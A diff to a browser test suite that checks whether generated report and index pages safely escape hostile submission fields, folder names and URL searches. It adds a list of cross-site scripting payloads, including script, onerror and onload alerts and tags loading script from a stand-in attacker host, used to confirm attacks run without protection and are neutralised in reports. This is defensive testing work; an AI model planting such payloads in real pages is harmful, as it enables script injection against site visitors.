@@ -88,6 +88,17 @@ def missing(page: Page, texts: Iterable[str]) -> list[str]:
     return [text for text in texts if shown(text) not in found]
 
 
+def changed(page: Page) -> list[str]:
+    """What stands before the name of a field and is no payload, but for its white space and the size of its letters."""
+    found = bare(unicodedata.normalize("NFC", page.evaluate(TEXT)))
+    whole = tuple(bare(shown(payload)) for payload in PAYLOADS)
+    return [before[-80:] for before in found.split(bare(named("", "")))[:-1] if not before.endswith(whole)]
+
+
+def bare(text: str) -> str:
+    return "".join(text.split()).casefold()
+
+
 def use(page: Page) -> None:
     """Do what a reader does: unfold, scroll, point, tab, open a source."""
     open_details(page)
@@ -107,22 +118,38 @@ def check_harmless(browser: Browser, path: Path, own: list[int], texts: Iterable
         assert missing(one.page, texts) == []
 
 
+# Three of them run as soon as the page is open, two ask for something.
+WORKING = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<SCRIPT SRC=//tan-cong.invalid/a.js></SCRIPT>",
+    "<img src=//tan-cong.invalid/a.png>",
+]
+
+
 def test_the_attacks_work_where_nothing_stops_them(browser: Browser, tmp_path: Path) -> None:
     path = tmp_path / "page.html"
+    assert set(WORKING) < set(PAYLOADS)
     ran, asked = 0, 0
-    for payload in PAYLOADS[:5] + tuple(text for text in PAYLOADS if text.startswith(("<img src", "<svg><use"))):
+    for payload in WORKING:
         path.write_text(f"<!DOCTYPE html><body><p>{payload}</p>", encoding="utf-8")
         with opened(browser, path, bypass_csp=True) as one:
             one.page.wait_for_timeout(30)
             ran += bool(one.dialogs)
             asked += any(HOST in address for address in one.asked)
-    assert ran >= 4
-    assert asked >= 2
+    assert (ran, asked) == (3, 2)
 
 
 def test_no_field_of_a_submission_attacks_its_report(browser: Browser, project: Project) -> None:
     texts = [named(payload, field) for field in PRINTED for payload in PAYLOADS]
     check_harmless(browser, project.report("hostile"), [0, 1, 0, 4], [*texts, *file_names()])
+
+
+def test_wherever_a_report_prints_a_text_it_prints_the_characters_of_it(browser: Browser, project: Project) -> None:
+    with opened(browser, project.report("hostile")) as one:
+        assert len(re.findall("¦", one.page.evaluate(TEXT))) > 5000
+        assert changed(one.page) == []
 
 
 def test_no_field_of_a_submission_attacks_the_page_of_changes(browser: Browser, project: Project) -> None:
@@ -159,8 +186,8 @@ def test_no_folder_name_attacks_the_list_of_what_waits_for_its_report(browser: B
     check_harmless(browser, path, [1, 1, 0, 4], [named(text, "cho_lap") for text in PAYLOADS])
 
 
-def test_no_search_in_the_address_attacks_the_index(browser: Browser, every_commune: Path) -> None:
-    with opened(browser, every_commune, bypass_csp=True) as one:
+def test_no_search_in_the_address_attacks_the_index(browser: Browser, project: Project) -> None:
+    with opened(browser, project.pages["index"], bypass_csp=True) as one:
         for payload in PAYLOADS:
             one.page.evaluate(
                 "text => { location.hash = new URLSearchParams({ q: text, tinh: text, ky: text, tt: text }); }", payload
